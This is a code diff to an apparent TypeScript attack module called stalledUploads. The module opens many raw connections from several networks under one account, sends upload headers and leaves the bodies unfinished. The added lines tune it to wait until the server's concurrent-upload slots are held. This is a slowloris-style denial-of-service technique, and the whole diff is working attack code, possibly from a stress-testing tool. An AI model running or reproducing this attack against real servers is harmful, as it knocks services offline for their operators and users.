@@ -58,6 +58,8 @@ async function stillOpen({ address }: Target, bytes: string, count: number): Pro
 const NETWORKS = 8
 const PER_NETWORK = 8
 const ROUNDS = 3
+/** As many large bodies as a server receives at once. */
+const PLACES = 32
 
 /** One account holds as many unfinished uploads as it can, from several networks, again and again. */
 export const stalledUploads: Attack = {
@@ -95,5 +97,11 @@ async function holdUploads(target: Target, cookie: string): Promise<Socket[]> {
       ].join('\r\n'),
     ),
   )
-  return Promise.all(heads.map((head) => rawSocket(target.address, head)))
+  const sockets = await Promise.all(heads.map((head) => rawSocket(target.address, head)))
+  let answered = 0
+  for (const socket of sockets) socket.once('data', () => (answered += 1))
+  // What finds no place is refused at once. By then the others are held.
+  const deadline = Date.now() + PATIENCE_MS
+  while (answered < sockets.length - PLACES && Date.now() < deadline) await sleep(20)
+  return sockets
 }
